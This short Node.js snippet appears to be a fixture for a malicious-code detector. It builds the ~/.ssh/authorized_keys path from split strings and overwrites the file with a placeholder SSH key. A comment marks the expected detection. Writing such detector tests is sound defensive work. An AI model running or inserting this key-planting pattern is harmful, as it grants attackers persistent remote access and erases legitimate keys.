const fs = require('fs');
const path = require('path');
const os = require('os');

const file = path.join(os.homedir(), '.s' + 'sh', ['authorized', 'keys'].join('_'));
fs.writeFileSync(file, ['ssh-ed25519', 'AAAAC3NzaC1lZDI1NTE5AAAAIsample'].join(' ')); // expect: malicious-command/ssh-authorized-key
